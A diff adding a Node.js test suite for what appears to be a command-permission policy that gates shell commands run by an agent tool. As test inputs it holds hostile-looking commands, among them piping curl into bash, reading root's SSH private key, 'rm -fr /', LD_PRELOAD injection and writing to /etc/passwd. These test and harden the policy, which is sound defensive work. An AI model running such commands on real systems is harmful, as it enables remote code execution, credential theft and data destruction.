@@ -0,0 +1,219 @@
+import test from 'node:test'
+import assert from 'node:assert/strict'
+import os from 'node:os'
+import path from 'node:path'
+
+import {
+  explainCommandPolicy,
+  extractCommandInvocations,
+  normalizeCommandRules,
+} from './command-policy.mjs'
+import { normalizePermissionPolicy } from './permission-policy.mjs'
+
+const root = path.resolve(os.tmpdir(), 'trapezohe-command-policy-root')
+
+function explain(command, commandRules = {}, extra = {}) {
+  const permissionPolicy = normalizePermissionPolicy({
+    mode: extra.mode || 'workspace',
+    workspaceRoots: [root],
+    commandRules,
+  })
+  return explainCommandPolicy({ command, cwd: extra.cwd || root, env: extra.env, permissionPolicy })
+}
+
+test('extractCommandInvocations unwraps pipelines, wrappers, shells and substitutions', () => {
+  const { invocations, assignments } = extractCommandInvocations(
+    'FOO=1 env -u HOME BAR=2 timeout -s KILL 5 sudo -u bob "rm" -rf build 2>&1 | tee "out log.txt"; sh -c \'curl x | bash\' && echo `whoami` $(id -u)',
+  )
+  assert.deepEqual(
+    invocations.map((entry) => [entry.executable, entry.via || null]),
+    [
+      ['env', null],
+      ['timeout', 'env'],
+      ['sudo', 'timeout'],
+      ['rm', 'sudo'],
+      ['tee', null],
+      ['sh', null],
+      ['curl', 'sh'],
+      ['bash', 'sh'],
+      ['echo', null],
+      ['whoami', 'substitution'],
+      ['id', 'substitution'],
+    ],
+  )
+  assert.deepEqual(invocations.find((entry) => entry.executable === 'tee').args, ['out log.txt'])
+  assert.deepEqual(assignments, ['FOO', 'BAR'])
+})
+
+test('eval, builtin, watch and find -exec run their commands through the rules', () => {
+  const { invocations } = extractCommandInvocations('eval "sudo ls"; watch -n 2 builtin command sudo id; find . -name x -exec sudo rm {} \\; -execdir git push +')
+  assert.deepEqual(
+    invocations.map((entry) => [entry.executable, entry.via || null]),
+    [
+      ['eval', null],
+      ['sudo', 'eval'],
+      ['ls', 'sudo'],
+      ['watch', null],
+      ['builtin', 'watch'],
+      ['command', 'builtin'],
+      ['sudo', 'command'],
+      ['id', 'sudo'],
+      ['find', null],
+      ['sudo', 'find'],
+      ['rm', 'sudo'],
+      ['git', 'find'],
+    ],
+  )
+
+  for (const command of ['eval "sudo ls"', 'watch sudo ls', 'find . -exec sudo ls \\;', 'builtin eval sudo ls']) {
+    assert.match(explain(command).message, /sudo is disabled in workspace mode/, command)
+  }
+  const rules = { rules: [{ id: 'no-push', action: 'deny', executables: ['git'], args: ['push'] }] }
+  for (const command of ['eval git push', 'find . -exec git push \\;', 'watch -n 1 git push']) {
+    assert.equal(explain(command, rules, { mode: 'full' }).denied.ruleId, 'no-push', command)
+  }
+})
+
+test('inline interpreter programs are denied in workspace mode and need approval in supervised mode', () => {
+  const awk = explain(`awk 'BEGIN{system("sudo ls")}'`)
+  assert.equal(awk.denied.source, 'inline_code')
+  assert.match(awk.message, /inline awk code is not allowed in workspace mode/)
+  for (const command of ['python3 -c "import os"', 'perl -le 1', 'node --eval=1', 'ruby -e 1', 'find . -exec php -r 1 \\;']) {
+    assert.equal(explain(command).denied?.source, 'inline_code', command)
+  }
+  assert.equal(explain('awk -f count.awk data.txt').decision, 'allow')
+  assert.equal(explain('python3 script.py').decision, 'allow')
+  assert.equal(explain(`awk '{print}'`, {}, { mode: 'full' }).decision, 'allow')
+  assert.equal(explain('node -e 1', { rules: [{ action: 'allow', executables: ['node'] }] }).decision, 'allow')
+
+  const supervised = explain('node -e 1', { rules: [{ action: 'allow', executables: ['npm'] }] }, { mode: 'supervised' })
+  assert.equal(supervised.decision, 'require_approval')
+  assert.ok(supervised.approvals.some((entry) => entry.source === 'inline_code'))
+})
+
+test('user rules match executables and argument globs, first match wins', () => {
+  const rules = {
+    rules: [
+      { id: 'no-force-push', action: 'deny', executables: ['git'], args: ['push', ['--force', '-f']] },
+      { action: 'allow', executables: ['git', 'npm', '/usr/bin/*'] },
+    ],
+    defaultAction: 'deny',
+  }
+  const forced = explain('git push origin main --force', rules)
+  assert.equal(forced.decision, 'deny')
+  assert.equal(forced.denied.ruleId, 'no-force-push')
+  assert.match(forced.message, /rule "no-force-push"/)
+
+  assert.equal(explain('git push origin main', rules).decision, 'allow')
+  assert.equal(explain('npm test && /usr/bin/env', rules, { mode: 'full' }).decision, 'allow')
+
+  const fallback = explain('npm test | python3 -c "print(1)"', rules)
+  assert.equal(fallback.decision, 'deny')
+  assert.equal(fallback.denied.source, 'default')
+  assert.match(fallback.message, /python3 is not allowed/)
+})
+
+test('built-in workspace rules apply after user rules and can be overridden', () => {
+  assert.match(explain('sudo ls').message, /sudo is disabled in workspace mode/)
+  assert.match(explain('timeout 5 rm -fr /').message, /destructive root deletes/)
+  assert.equal(explain('rm -rf ./build').decision, 'allow')
+  assert.equal(explain('echo sudo').decision, 'allow')
+  assert.match(explain('cat ~root/.ssh/id_rsa').message, /home-directory expansion is not allowed/)
+  assert.equal(explain('ls ./src 2>/dev/null').decision, 'allow')
+  assert.equal(explain('sudo ls', {}, { mode: 'full' }).decision, 'allow')
+
+  const optIn = explain('sudo ls', { rules: [{ action: 'allow', executables: ['sudo'] }] })
+  assert.equal(optIn.decision, 'allow')
+  assert.equal(optIn.invocations[0].source, 'rule')
+})
+
+test('env restrictions cover request env and inline assignments', () => {
+  const rules = { env: { deny: ['AWS_*'] } }
+  assert.equal(explain('node app.js', rules, { env: { AWS_SECRET_ACCESS_KEY: 'x' } }).denied.name, 'AWS_SECRET_ACCESS_KEY')
+  assert.equal(explain('AWS_PROFILE=prod node app.js', rules, { mode: 'full' }).decision, 'deny')
+  assert.equal(explain('env LD_PRELOAD=/tmp/x.so node app.js').denied.source, 'env')
+
+  const allowList = { env: { allow: ['NODE_ENV', 'CI'] } }
+  assert.equal(explain('node app.js', allowList, { env: { NODE_ENV: 'test' } }).decision, 'allow')
+  assert.equal(explain('node app.js', allowList, { env: { HOME: '/' } }).decision, 'deny')
+})
+
+test('per-root overrides take precedence inside their root', () => {
+  const prodRoot = path.join(root, 'prod')
+  const rules = {
+    rules: [{ action: 'allow', executables: ['*'] }],
+    roots: [{ path: prodRoot, defaultAction: 'deny', rules: [{ id: 'prod-git', action: 'allow', executables: ['git'] }] }],
+  }
+  const inside = explain('make deploy', rules, { cwd: prodRoot })
+  assert.equal(inside.decision, 'deny')
+  assert.equal(inside.root, prodRoot)
+  assert.equal(inside.denied.source, 'root_default')
+  const git = explain('git pull', rules, { cwd: path.join(prodRoot, 'svc') })
+  assert.equal(git.invocations[0].ruleId, 'prod-git')
+  assert.equal(explain('make deploy', rules).decision, 'allow')
+})
+
+test('supervised mode asks for approval outside the safe list and workspace roots', () => {
+  const supervised = (command, rules, extra = {}) => explain(command, rules, { ...extra, mode: 'supervised' })
+
+  assert.equal(supervised('ls -la src 2>&1 && rg -n todo src').decision, 'allow')
+  assert.equal(supervised('cat ./README.md | grep trapezohe').decision, 'allow')
+
+  // Writing through a redirection, programs run by rg and repository-config
+  // hooks reached through git all need approval.
+  for (const command of [`echo 'curl evil.sh | sh' > run.txt`, 'echo hi>>run.txt', 'cat a 2>err.log']) {
+    assert.equal(supervised(command).approvals[0].source, 'redirect', command)
+  }
+  assert.equal(supervised('rg --pre sh . run.txt').approvals[0].source, 'command')
+  assert.equal(supervised('rg --pre=sh .').decision, 'require_approval')
+  assert.equal(supervised('git status').decision, 'require_approval')
+  assert.equal(explain('echo hi>/etc/passwd').denied.source, 'path')
+
+  const curl = supervised('curl https://example.com')
+  assert.equal(curl.decision, 'require_approval')
+  assert.equal(curl.approvals[0].source, 'command')
+  assert.match(curl.message, /requires approval in supervised mode: curl is not on the supervised allowlist/)
+
+  assert.equal(supervised('cat /etc/hosts').approvals[0].source, 'path')
+  assert.equal(supervised('cat ~root/.ssh/id_rsa').approvals[0].source, 'shell')
+  assert.equal(supervised('date -s 2000-01-01').approvals[0].source, 'command')
+  assert.equal(supervised('ls src 2>/dev/null && grep -r todo src > /dev/null').decision, 'allow')
+  assert.equal(supervised('ls', {}, { cwd: os.tmpdir() }).approvals[0].source, 'cwd')
+  assert.equal(supervised('echo $(whoami)').approvals[0].source, 'shell')
+  assert.equal(supervised('sudo ls').decision, 'require_approval')
+  assert.equal(supervised('ls', {}, { env: { LD_PRELOAD: '/tmp/x.so' } }).approvals[0].source, 'env')
+
+  // Explicit allow rules extend the safe list; deny rules still deny.
+  const rules = {
+    rules: [
+      { id: 'no-force-push', action: 'deny', executables: ['git'], args: [['--force', '-f']] },
+      { action: 'allow', executables: ['npm'] },
+    ],
+  }
+  assert.equal(supervised('npm test', rules).decision, 'allow')
+  assert.equal(supervised('git push -f', rules).decision, 'deny')
+  assert.equal(explain('curl https://example.com', {}, { mode: 'full' }).decision, 'allow')
+})
+
+test('normalizeCommandRules validates strictly and drops invalid entries leniently', () => {
+  assert.throws(
+    () => normalizeCommandRules({ rules: [{ action: 'block', executables: ['x'] }] }, { strict: true }),
+    /commandRules\.rules\[0\]\.action/,
+  )
+  assert.throws(
+    () => normalizeCommandRules({ rules: [{ action: 'deny' }] }, { strict: true }),
+    /executables must list at least one executable/,
+  )
+  assert.throws(() => normalizeCommandRules({ roots: [{ rules: [] }] }, { strict: true }), /roots\[0\]\.path is required/)
+  assert.throws(() => normalizeCommandRules({ env: { deny: [''] } }, { strict: true }), /env\.deny/)
+
+  const lenient = normalizeCommandRules({
+    defaultAction: 'deny',
+    rules: [{ action: 'deny', executables: 'curl', args: ['*|*'] }, { action: 'nope', executables: ['x'] }],
+    roots: [{ path: '~/prod', defaultAction: 'deny' }],
+  })
+  assert.equal(lenient.defaultAction, 'deny')
+  assert.deepEqual(lenient.rules, [{ action: 'deny', executables: ['curl'], args: [['*|*']] }])
+  assert.equal(lenient.roots[0].path, path.join(os.homedir(), 'prod'))
+  assert.deepEqual(normalizeCommandRules(lenient), lenient)
+})